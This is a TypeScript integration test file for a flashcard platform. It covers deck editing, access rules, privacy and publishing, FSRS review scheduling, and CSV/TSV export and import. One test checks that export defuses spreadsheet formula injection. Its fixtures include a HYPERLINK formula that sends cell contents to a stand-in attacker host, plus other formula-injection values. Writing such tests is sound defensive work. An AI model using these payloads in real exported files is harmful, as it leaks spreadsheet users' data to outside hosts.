// Decks over HTTP on the real platform: making one by hand (free) and editing it (cards added, edited, reordered,
// deleted; name, description, subject, public), who may call every route (guest, user, owner, other user, admin,
// suspended), privacy (a private deck is in no search, sitemap or public page), publishing into instant search with
// a server-rendered Quiz page at one canonical address, copying, FSRS spaced repetition per user with its history,
// and CSV / TSV out and back in.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer } from '../../tests/support/database.ts';
import { type Client, eventually, signUp, sql, type TestUser } from '../../tests/support/http-harness.ts';
import { FLASHCARD_MESSAGES } from './contract.ts';
import { bootFlashcards, type FlashcardsHarness } from './harness.testing.ts';

let h: FlashcardsHarness;
let owner: TestUser;
let other: TestUser;
let suspended: TestUser;
let deck: { id: string; slug: string; cards: { id: string; front: string; back: string }[] };
let biology: string;

const CARDS = [
  { front: 'What is osmosis?', back: 'The movement of water across a semi-permeable membrane.' },
  { front: 'What does the ribosome build?', back: 'Proteins, from amino acids.' },
  { front: 'Where does glycolysis happen?', back: 'In the cytoplasm.' },
];

beforeAll(async () => {
  h = await bootFlashcards();
  owner = await signUp(h, 'Olga Owner');
  other = await signUp(h, 'Omar Other');
  suspended = await signUp(h, 'Sid Suspended');
  [{ id: biology }] = await sql(h, "select id from subjects where slug = 'biology'");
}, 180_000);

afterAll(() => h?.close());

const status = async (client: Client, method: 'get' | 'post' | 'patch' | 'put' | 'delete', p: string, body?: object) => (await client[method](p, body)).status;
const instantDecks = async (q: string) =>
  ((await h.guest.get(`/api/search/instant?q=${encodeURIComponent(q)}`)).body.items as { kind: string; href: string }[]).filter((i) => i.kind === 'deck');

describe('making and editing a deck by hand', () => {
  it('makes a private deck for free, with its cards in order', async () => {
    const res = await owner.client.post('/api/flashcards/decks', { name: 'Cell biology basics', description: 'Three cards to start.', subjectId: biology, cards: CARDS });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ name: 'Cell biology basics', isPublic: false, cardCount: 3, status: 'ready', origin: 'manual', points: 0, isOwner: true, canEdit: true, subject: { slug: 'biology' } });
    expect(res.body.cards.map((c: any) => [c.position, c.front])).toEqual(CARDS.map((c, i) => [i + 1, c.front]));
    deck = res.body;
    expect(await sql(h, 'select 1 from points_transactions where user_id = ?', [owner.id])).toHaveLength(0);
    // Dashboard addresses name a deck by id or slug.
    expect((await owner.client.get(`/api/flashcards/decks/${deck.slug}`)).body.id).toBe(deck.id);
  });

  it('adds, edits, reorders and deletes cards, and renames, describes and files the deck', async () => {
    const added = await owner.client.post(`/api/flashcards/decks/${deck.id}/cards`, { front: 'What is a synapse?', back: 'A junction between neurons.' });
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject({ position: 4, kind: 'basic' });
    const edited = await owner.client.patch(`/api/flashcards/decks/${deck.id}/cards/${added.body.id}`, { front: 'What is a synapse?', back: 'The junction where one neuron signals the next.' });
    expect(edited.body.back).toBe('The junction where one neuron signals the next.');
    const ids = [added.body.id, ...deck.cards.map((c) => c.id)];
    const reordered = await owner.client.put(`/api/flashcards/decks/${deck.id}/order`, { cardIds: ids });
    expect(reordered.body.cards.map((c: any) => c.id)).toEqual(ids);
    expect((await owner.client.put(`/api/flashcards/decks/${deck.id}/order`, { cardIds: ids.slice(1) })).status).toBe(400);
    expect((await owner.client.delete(`/api/flashcards/decks/${deck.id}/cards/${added.body.id}`)).status).toBe(200);
    const renamed = await owner.client.patch(`/api/flashcards/decks/${deck.id}`, { name: 'Cell biology: first cards', description: 'Osmosis, ribosomes and glycolysis.', subjectId: null });
    expect(renamed.body).toMatchObject({ name: 'Cell biology: first cards', description: 'Osmosis, ribosomes and glycolysis.', subject: null, cardCount: 3 });
    expect(renamed.body.cards.map((c: any) => c.front)).toEqual(CARDS.map((c) => c.front));
    expect((await owner.client.patch(`/api/flashcards/decks/${deck.id}`, { subjectId: biology })).body.subject.slug).toBe('biology');
    expect((await owner.client.post(`/api/flashcards/decks/${deck.id}/cards`, { front: ' ', back: 'x' })).status).toBe(400);
  });
});

describe('who may do what', () => {
  beforeAll(async () => {
    await sql(h, "update users set status = 'suspended' where id = ?", [suspended.id]);
  });

  it('lets anyone read the price and the public list, and only signed-in users make, list or study decks', async () => {
    for (const client of [h.guest, other.client, h.admin.client, suspended.client]) {
      expect(await status(client, 'get', '/api/flashcards/quote?cards=10')).toBe(200);
      expect(await status(client, 'get', '/api/flashcards/public')).toBe(200);
    }
    for (const client of [h.guest, suspended.client]) {
      expect(await status(client, 'get', '/api/flashcards/decks')).toBe(401);
      expect(await status(client, 'get', '/api/flashcards/due')).toBe(401);
      expect(await status(client, 'post', '/api/flashcards/decks', { name: 'x' })).toBe(401);
      expect(await status(client, 'post', '/api/flashcards/decks', {})).toBe(401);
      expect(await status(client, 'post', '/api/flashcards/generate', {})).toBe(401);
      expect(await status(client, 'post', '/api/flashcards/uploads')).toBe(401);
      expect(await status(client, 'get', `/api/flashcards/decks/${deck.id}/study`)).toBe(401);
      expect(await status(client, 'post', `/api/flashcards/decks/${deck.id}/cards/${deck.cards[0]!.id}/review`, { rating: 3, reviewedAt: new Date().toISOString() })).toBe(401);
      expect(await status(client, 'post', `/api/flashcards/decks/${deck.id}/copy`)).toBe(401);
    }
    // Each user lists only their own decks; an admin too.
    expect((await other.client.get('/api/flashcards/decks')).body.total).toBe(0);
    expect((await h.admin.client.get('/api/flashcards/decks')).body.total).toBe(0);
    expect((await owner.client.get('/api/flashcards/decks')).body).toMatchObject({ total: 1, items: [{ id: deck.id, due: 3 }] });
  });

  it('keeps a private deck its owner’s: others get 404 everywhere, an admin may read and delete it but not change it', async () => {
    const card = deck.cards[0]!.id;
    const routes: [method: 'get' | 'post' | 'patch' | 'put' | 'delete', p: string, body?: object][] = [
      ['get', `/api/flashcards/decks/${deck.id}`],
      ['get', `/api/flashcards/decks/${deck.slug}/export`],
      ['patch', `/api/flashcards/decks/${deck.id}`, { name: 'Mine now' }],
      ['post', `/api/flashcards/decks/${deck.id}/cards`, { front: 'a', back: 'b' }],
      ['patch', `/api/flashcards/decks/${deck.id}/cards/${card}`, { front: 'a', back: 'b' }],
      ['delete', `/api/flashcards/decks/${deck.id}/cards/${card}`],
      ['put', `/api/flashcards/decks/${deck.id}/order`, { cardIds: [card] }],
      ['post', `/api/flashcards/decks/${deck.id}/import`, { text: 'a,b', format: 'csv' }],
      ['post', `/api/flashcards/decks/${deck.id}/copy`],
      ['get', `/api/flashcards/decks/${deck.id}/study`],
      ['post', `/api/flashcards/decks/${deck.id}/cards/${card}/review`, { rating: 3 }],
      ['post', `/api/flashcards/decks/${deck.id}/cards/${card}/review`, { rating: 3, reviewedAt: new Date(Date.now() - 3_600_000).toISOString() }],
      ['get', `/api/flashcards/decks/${deck.id}/cards/${card}/history`],
      ['delete', `/api/flashcards/decks/${deck.id}`],
    ];
    for (const [method, p, body] of routes) {
      const res = await other.client[method](p, body);
      expect(res.status, `${method} ${p}`).toBe(404);
      expect(res.body.error).toEqual({ code: 'not_found', message: FLASHCARD_MESSAGES.notFound });
      if (method !== 'get' || !p.endsWith('/export')) expect(await status(h.guest, method, p, body), `guest ${method} ${p}`).toBe(p.endsWith(deck.id) && method === 'get' ? 404 : 401);
    }
    expect(await status(h.guest, 'get', `/api/flashcards/decks/${deck.slug}/export`)).toBe(404);
    // An admin reads it (moderation) but changing it is its owner's.
    expect(await status(h.admin.client, 'get', `/api/flashcards/decks/${deck.id}`)).toBe(200);
    const refused = await h.admin.client.patch(`/api/flashcards/decks/${deck.id}`, { name: 'Admin name' });
    expect(refused.status).toBe(403);
    expect(refused.body.error).toEqual({ code: 'forbidden', message: FLASHCARD_MESSAGES.ownerOnly });
    expect(await status(h.admin.client, 'post', `/api/flashcards/decks/${deck.id}/cards`, { front: 'a', back: 'b' })).toBe(403);
    expect((await owner.client.get(`/api/flashcards/decks/${deck.id}`)).body.name).toBe('Cell biology: first cards');
  });

  it('lets an admin delete any deck, and nobody but the owner and admins delete one', async () => {
    const doomed = (await other.client.post('/api/flashcards/decks', { name: 'Spam deck', isPublic: true, cards: [{ front: 'buy', back: 'now' }] })).body;
    expect(await status(owner.client, 'delete', `/api/flashcards/decks/${doomed.id}`)).toBe(403);
    expect(await status(h.admin.client, 'delete', `/api/flashcards/decks/${doomed.id}`)).toBe(200);
    expect(await status(other.client, 'get', `/api/flashcards/decks/${doomed.id}`)).toBe(404);
  });
});

describe('privacy and publishing', () => {
  let dist: string;
  let web: Awaited<ReturnType<typeof startTestServer>>;
  const page = (p: string) => fetch(web.baseUrl + p);
  const sitemap = async () => (await h.guest.get('/sitemap.xml')).text;

  beforeAll(async () => {
    dist = path.join(h.platform.dataDir, 'dist');
    mkdirSync(dist, { recursive: true });
    writeFileSync(path.join(dist, 'index.html'), '<html><head><title>Studyhall</title><meta name="description" content="default" /></head><body></body></html>');
    web = await startTestServer(h.platform, { webDist: dist });
  });
  afterAll(() => web?.close());

  it('never shows a private deck: not in search, the public list, the sitemap or a public page', async () => {
    expect((await h.guest.get('/api/flashcards/public')).body.total).toBe(0);
    expect(await instantDecks('cell biology first')).toEqual([]);
    expect(await sitemap()).not.toContain(deck.slug);
    for (const p of [`/flashcards/${deck.slug}`, `/ai-flashcard-maker/${deck.slug}`]) {
      const res = await page(p);
      expect(res.status).toBe(404);
      expect(await res.text()).not.toContain('Quiz');
    }
  });

  it('publishes into instant search, the sitemap and a Quiz page at one canonical address; private again takes it out', async () => {
    const published = await owner.client.patch(`/api/flashcards/decks/${deck.id}`, { isPublic: true });
    expect(published.body.isPublic).toBe(true);
    const hits = await eventually(() => instantDecks('cell biology first'), (list) => list.length > 0);
    expect(hits).toEqual([expect.objectContaining({ kind: 'deck', href: `/flashcards/${deck.slug}` })]);
    expect((await h.guest.get('/api/flashcards/public')).body.items.map((d: any) => d.slug)).toEqual([deck.slug]);
    const read = await h.guest.get(`/api/flashcards/decks/${deck.slug}`);
    expect(read.body).toMatchObject({ isOwner: false, canEdit: false, actionId: null, due: null, ownerName: 'Olga Owner' });
    expect(await sitemap()).toContain(`/flashcards/${deck.slug}</loc>`);

    for (const p of [`/flashcards/${deck.slug}`, `/ai-flashcard-maker/${deck.slug}`]) {
      const res = await page(p);
      expect(res.status).toBe(200);
      const html = await res.text();
      expect(html).toContain('<title>Cell biology: first cards flashcards | Studyhall</title>');
      expect(html).toContain(`<link rel="canonical" href="${h.platform.config.publicUrl}/flashcards/${deck.slug}" />`);
      const jsonLd = JSON.parse(/<script type="application\/ld\+json">(.*?)<\/script>/.exec(html)![1]!);
      expect(jsonLd).toMatchObject({ '@type': 'Quiz', name: 'Cell biology: first cards', numberOfQuestions: 3, about: { name: 'Biology' } });
      expect(jsonLd.hasPart[0]).toEqual({ '@type': 'Question', eduQuestionType: 'Flashcard', text: CARDS[0]!.front, acceptedAnswer: { '@type': 'Answer', text: CARDS[0]!.back } });
    }
    expect(await (await page('/ai-flashcard-maker')).text()).toContain('<title>AI Flashcard Maker: flashcards from your notes and documents | Studyhall</title>');

    // Others read and copy it, but cannot change it.
    expect(await status(other.client, 'patch', `/api/flashcards/decks/${deck.id}`, { name: 'x' })).toBe(403);
    expect(await status(other.client, 'delete', `/api/flashcards/decks/${deck.id}`)).toBe(403);
    const copy = await other.client.post(`/api/flashcards/decks/${deck.slug}/copy`);
    expect(copy.status).toBe(201);
    expect(copy.body).toMatchObject({ isPublic: false, origin: 'copy', isOwner: true, cardCount: 3, copiedFrom: { slug: deck.slug } });
    expect(copy.body.cards.map((c: any) => c.front)).toEqual(CARDS.map((c) => c.front));

    const unpublished = await owner.client.patch(`/api/flashcards/decks/${deck.id}`, { isPublic: false });
    expect(unpublished.body.isPublic).toBe(false);
    await eventually(() => instantDecks('cell biology first'), (list) => list.length === 0);
    expect(await status(h.guest, 'get', `/api/flashcards/decks/${deck.slug}`)).toBe(404);
    expect(await sitemap()).not.toContain(deck.slug);
    expect((await page(`/flashcards/${deck.slug}`)).status).toBe(404);
  });
});

describe('spaced repetition', () => {
  /** Moves the user's schedule of a card back by `days`, as if that much time had passed since the last review. */
  const daysPass = (user: TestUser, cardId: string, days: number) =>
    sql(h, `update flashcard_schedules set due = due - make_interval(days => ?), last_review = last_review - make_interval(days => ?) where user_id = ? and card_id = ?`, [
      days, days, user.id, cardId,
    ]);
  const review = async (user: TestUser, cardId: string, rating: number) => {
    const res = await user.client.post(`/api/flashcards/decks/${deck.id}/cards/${cardId}/review`, { rating });
    expect(res.status).toBe(200);
    return res.body as { scheduledDays: number; state: string; due: string; lapses: number; reps: number };
  };

  it('schedules by FSRS: intervals grow with each Good, Again sends the card back to relearning, every review kept', async () => {
    const card = deck.cards[0]!.id;
    const queue = await owner.client.get(`/api/flashcards/decks/${deck.id}/study`);
    expect(queue.body).toMatchObject({ newCount: 3, dueCount: 0, reviewedToday: 0 });
    expect(queue.body.due.map((s: any) => s.cardId)).toEqual(deck.cards.map((c) => c.id));
    expect(queue.body.preview.map((p: any) => p.rating)).toEqual([1, 2, 3, 4]);

    // Learning steps first (minutes), then days that grow.
    let s = await review(owner, card, 3);
    expect(s.state).toBe('learning');
    expect(s.scheduledDays).toBe(0);
    s = await review(owner, card, 3);
    expect(s.state).toBe('review');
    const intervals = [s.scheduledDays];
    for (let i = 0; i < 3; i++) {
      await daysPass(owner, card, intervals.at(-1)!);
      intervals.push((await review(owner, card, 3)).scheduledDays);
    }
    expect(intervals[0]).toBeGreaterThanOrEqual(1);
    for (let i = 1; i < intervals.length; i++) expect(intervals[i]).toBeGreaterThan(intervals[i - 1]!);

    await daysPass(owner, card, intervals.at(-1)!);
    const forgotten = await review(owner, card, 1);
    expect(forgotten).toMatchObject({ state: 'relearning', scheduledDays: 0, lapses: 1, reps: 6 });
    expect(new Date(forgotten.due).getTime() - Date.now()).toBeLessThan(30 * 60_000);

    const history = (await owner.client.get(`/api/flashcards/decks/${deck.id}/cards/${card}/history`)).body.items;
    expect(history.map((r: any) => r.rating)).toEqual([3, 3, 3, 3, 3, 1]);
    expect(history.map((r: any) => r.scheduledDays).slice(1, 5)).toEqual(intervals);
    expect((await owner.client.get(`/api/flashcards/decks/${deck.id}/study`)).body).toMatchObject({ newCount: 2, reviewedToday: 6 });
    expect((await owner.client.post(`/api/flashcards/decks/${deck.id}/cards/${card}/review`, { rating: 5 })).status).toBe(400);
  });

  it('orders reviews made offline and sent late by when they were made, and records one sent twice once', async () => {
    const made = (await owner.client.post('/api/flashcards/decks', { name: 'Offline deck', cards: CARDS.slice(0, 2) })).body;
    const [inOrder, late] = made.cards.map((c: { id: string }) => c.id) as [string, string];
    const grade = async (cardId: string, rating: number, reviewedAt: string) => {
      const res = await owner.client.post(`/api/flashcards/decks/${made.id}/cards/${cardId}/review`, { rating, reviewedAt });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      return res.body;
    };
    const history = async (cardId: string) => (await owner.client.get(`/api/flashcards/decks/${made.id}/cards/${cardId}/history`)).body.items;
    const monday = new Date(Date.now() - 3 * 86_400_000).toISOString();
    const tuesday = new Date(Date.now() - 2 * 86_400_000).toISOString();

    // Good on Monday, Again on Tuesday: once as it happened, once with Monday's review (queued offline) arriving last.
    await grade(inOrder, 3, monday);
    const expected = await grade(inOrder, 1, tuesday);
    await grade(late, 1, tuesday);
    const reconciled = await grade(late, 3, monday);
    const { cardId: _a, ...want } = expected;
    const { cardId: _b, ...got } = reconciled;
    expect(got).toEqual(want);
    expect((await history(late)).map((r: any) => [r.rating, r.reviewedAt])).toEqual([[3, monday], [1, tuesday]]);
    expect(await history(late)).toEqual(await history(inOrder));

    // The queue retried after the answer was lost: still two reviews, the same schedule.
    const again = await grade(late, 3, monday);
    expect(again.due).toBe(reconciled.due);
    expect(await history(late)).toHaveLength(2);

    // A clock ahead of the server's counts as now; a review older than 30 days is refused.
    await grade(inOrder, 4, new Date(Date.now() + 86_400_000).toISOString());
    expect(new Date((await history(inOrder)).at(-1).reviewedAt).getTime()).toBeLessThanOrEqual(Date.now());
    const old = await owner.client.post(`/api/flashcards/decks/${made.id}/cards/${late}/review`, { rating: 3, reviewedAt: new Date(Date.now() - 31 * 86_400_000).toISOString() });
    expect(old.status).toBe(422);
    expect(old.body.error).toEqual({ code: 'review_too_old', message: FLASHCARD_MESSAGES.reviewTooOld });
    await owner.client.delete(`/api/flashcards/decks/${made.id}`);
  });

  it('gives every signed-in user of a public deck their own schedule, and sums what is due for the dashboard', async () => {
    await owner.client.patch(`/api/flashcards/decks/${deck.id}`, { isPublic: true });
    const card = deck.cards[1]!.id;
    const before = (await owner.client.get(`/api/flashcards/decks/${deck.id}/study`)).body;
    await review(other, card, 4);
    expect((await other.client.get(`/api/flashcards/decks/${deck.id}/study`)).body).toMatchObject({ newCount: 2, reviewedToday: 1 });
    expect((await owner.client.get(`/api/flashcards/decks/${deck.id}/study`)).body).toMatchObject({ newCount: before.newCount, dueCount: before.dueCount });
    expect(await sql(h, 'select 1 from flashcard_reviews where user_id = ? and card_id = ?', [owner.id, card])).toHaveLength(0);
    // The owner's figure: the relearning card once it is due, and the two new cards of their deck.
    await daysPass(owner, deck.cards[0]!.id, 1);
    expect((await owner.client.get('/api/flashcards/due')).body).toEqual({ due: 3, decks: 1 });
    // The other user has the copy's three new cards; the public deck's card is not due for days.
    expect((await other.client.get('/api/flashcards/due')).body).toEqual({ due: 3, decks: 1 });
  });
});

describe('CSV and TSV', () => {
  const TRICKY = [
    { front: 'Comma, "quotes" and a\nline break', back: 'All kept' },
    { front: 'Tab\tinside', back: 'Ünïcödé – ✓' },
    { front: 'Plain', back: 'Answer' },
  ];

  it('exports a deck and imports it back, card for card, in both formats', async () => {
    const source = (await owner.client.post('/api/flashcards/decks', { name: 'Round trip', cards: TRICKY })).body;
    for (const format of ['csv', 'tsv'] as const) {
      const res = await fetch(`${h.baseUrl}/api/flashcards/decks/${source.id}/export?format=${format}`, {
        headers: { cookie: [...owner.client.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toContain(format === 'csv' ? 'text/csv' : 'text/tab-separated-values');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${source.slug}.${format}"`);
      const text = await res.text();
      const target = (await owner.client.post('/api/flashcards/decks', { name: `Imported ${format}` })).body;
      const imported = await owner.client.post(`/api/flashcards/decks/${target.id}/import`, { text, format });
      expect(imported.status).toBe(200);
      expect(imported.body.imported).toBe(3);
      expect(imported.body.deck.cards.map((c: any) => ({ front: c.front, back: c.back }))).toEqual(TRICKY);
    }
  });

  it('exports cells a spreadsheet would run as formulas as text, and imports them back as they were', async () => {
    const FORMULAS = [
      { front: '=HYPERLINK("https://evil.example/?"&A1,"Click")', back: '+1+1' },
      { front: '-2+3', back: '@SUM(A1:A2)' },
      { front: '\t=1+1', back: '\r=1+1' },
      { front: "'=kept as written", back: 'Plain' },
    ];
    const source = (await owner.client.post('/api/flashcards/decks', { name: 'Formulas', cards: FORMULAS })).body;
    await owner.client.patch(`/api/flashcards/decks/${source.id}`, { isPublic: true });
    for (const format of ['csv', 'tsv'] as const) {
      const res = await fetch(`${h.baseUrl}/api/flashcards/decks/${source.slug}/export?format=${format}`);
      expect(res.status).toBe(200);
      const text = await res.text();
      // Every cell as a spreadsheet reads it (quotes unwrapped): none starts a formula.
      const cells = text.split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter(Boolean).flatMap((line) => line.split(format === 'csv' ? /,(?=(?:[^"]*"[^"]*")*[^"]*$)/ : /\t(?=(?:[^"]*"[^"]*")*[^"]*$)/));
      const values = cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
      expect(values).toHaveLength(8);
      for (const value of values) expect(value, format).not.toMatch(/^[=+\-@\t\r]/);
      expect(values[0]).toBe(`'${FORMULAS[0]!.front}`);
      const target = (await owner.client.post('/api/flashcards/decks', { name: `Formulas back ${format}` })).body;
      const imported = await owner.client.post(`/api/flashcards/decks/${target.id}/import`, { text, format });
      expect(imported.body.deck.cards.map((c: any) => ({ front: c.front, back: c.back }))).toEqual(
        FORMULAS.map((c) => ({ front: c.front.trim(), back: c.back.trim() })),
      );
    }
  });

  it('reads a header line and Anki’s comment lines, and refuses a file with no cards', async () => {
    const target = (await owner.client.post('/api/flashcards/decks', { name: 'From Anki' })).body;
    const text = '#separator:tab\n#html:false\nfront\tback\nmitosis\ttwo identical nuclei\r\nmeiosis\tfour gametes\n';
    const res = await owner.client.post(`/api/flashcards/decks/${target.id}/import`, { text, format: 'tsv' });
    expect(res.body.deck.cards.map((c: any) => [c.front, c.back])).toEqual([
      ['mitosis', 'two identical nuclei'],
      ['meiosis', 'four gametes'],
    ]);
    const empty = await owner.client.post(`/api/flashcards/decks/${target.id}/import`, { text: 'only a front\n', format: 'csv' });
    expect(empty.status).toBe(400);
    expect(empty.body.error.message).toBe(FLASHCARD_MESSAGES.importEmpty);
  });
});
